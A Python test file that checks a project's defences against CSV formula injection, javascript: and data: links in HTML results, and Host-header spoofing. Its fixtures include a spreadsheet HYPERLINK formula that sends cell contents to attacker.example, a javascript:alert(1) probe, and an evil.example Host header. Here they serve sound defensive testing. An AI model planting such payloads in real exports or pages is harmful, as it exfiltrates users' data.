"""Issue 21 item 6: no CSV the project writes carries a cell a spreadsheet would run, HTML
results link only http and https IRIs, and absolute URLs come from CRADLE_PUBLIC_URL, never
from the Host header."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

from fastapi.testclient import TestClient

from cradle.core.csvcells import neutralise_csv, safe_cell
from cradle.core.settings import ONTOLOGY_DIR
from cradle.graph.commands import run_review
from cradle.service.app import create_app
from tests.service_support import fake_settings

from .conftest import CATALOGUE

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'


def test_cells_that_start_a_formula_are_shown_as_text() -> None:
    for bad in (FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(bad) == "'" + bad
    for fine in ("-5", "+3.2", "1e-3", "plain text", "", None, 7):
        assert safe_cell(fine) == ("" if fine is None else str(fine))
    assert neutralise_csv(b"a,b\r\nx,y\r\n") == b"a,b\r\nx,y\r\n"


def test_review_csv_neutralises_a_formula_title(tmp_path: Path) -> None:
    text = CATALOGUE.read_text(encoding="utf-8")
    first = text.index("  title: ", text.index("\nresources:\n"))
    end = text.index("\n", first)
    path = tmp_path / "catalogue.yaml"
    path.write_text(text[:first] + f"  title: '{FORMULA}'" + text[end:], encoding="utf-8")
    out, _ = run_review(path, ONTOLOGY_DIR, fmt="csv")
    titles = [row[1] for row in csv.reader(io.StringIO(out))][1:]
    assert "'" + FORMULA in titles
    assert not any(t.startswith(("=", "+", "-", "@")) for t in titles)


def test_sparql_csv_neutralises_formulas_and_keeps_numbers(client: Any) -> None:
    query = "SELECT ('" + FORMULA + "' AS ?x) (-5 AS ?n) {}"
    answer = client.get("/sparql", params={"query": query, "format": "csv"})
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.text)))
    assert rows[1] == ["'" + FORMULA, "-5"]


def test_results_page_links_only_web_iris(client: Any) -> None:
    query = (
        "SELECT (<javascript:alert(1)> AS ?a) (<data:text/html,hi> AS ?b) "
        "(<https://example.org/ok> AS ?c) {}"
    )
    page = client.get("/sparql", params={"query": query}, headers={"Accept": "text/html"})
    assert page.status_code == 200
    assert 'href="javascript:' not in page.text and 'href="data:' not in page.text
    assert "javascript:alert(1)" in page.text  # shown, as text
    assert 'href="https://example.org/ok"' in page.text


def test_feeds_and_pages_never_take_the_host_header(data_dir: Path) -> None:
    evil = {"Host": "evil.example"}
    with TestClient(create_app(fake_settings(data_dir))) as c:
        assert "evil.example" not in c.get("/changes.atom", headers=evil).text
        assert "evil.example" not in c.get("/sparql", headers=evil).text
        assert "evil.example" not in c.get("/query", headers=evil).text
    public = fake_settings(data_dir, public_url="https://cradle.example.gov.uk")
    with TestClient(create_app(public)) as c:
        feed = c.get("/changes.atom", headers=evil).text
        assert "https://cradle.example.gov.uk/changes" in feed and "evil.example" not in feed
